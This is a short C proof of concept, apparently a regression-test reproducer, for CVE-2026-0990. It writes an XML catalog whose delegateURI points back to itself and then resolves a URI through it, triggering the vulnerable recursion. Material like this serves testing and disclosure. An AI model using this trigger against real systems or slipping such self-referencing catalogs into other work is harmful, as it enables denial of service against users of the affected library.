/* CVE-2026-0990: a catalog that delegates a URI to itself. */
#include <stdio.h>
#include <unistd.h>

int xmlLoadCatalog(const char *);
unsigned char *xmlCatalogResolveURI(const unsigned char *);

int attempt(void)
{
    char folder[4000];
    FILE *f = fopen("catalog.xml", "w");
    if (!f || !getcwd(folder, sizeof folder))
        return 0;
    fprintf(f, "<?xml version=\"1.0\"?>\n<catalog xmlns=\"urn:oasis:names:tc:entity:xmlns:xml:catalog\">\n"
               "<delegateURI uriStartString=\"http://example.org/\" catalog=\"file://%s/catalog.xml\"/>\n</catalog>\n", folder);
    fclose(f);
    return !xmlLoadCatalog("catalog.xml") && !xmlCatalogResolveURI((const unsigned char *)"http://example.org/thing");
}
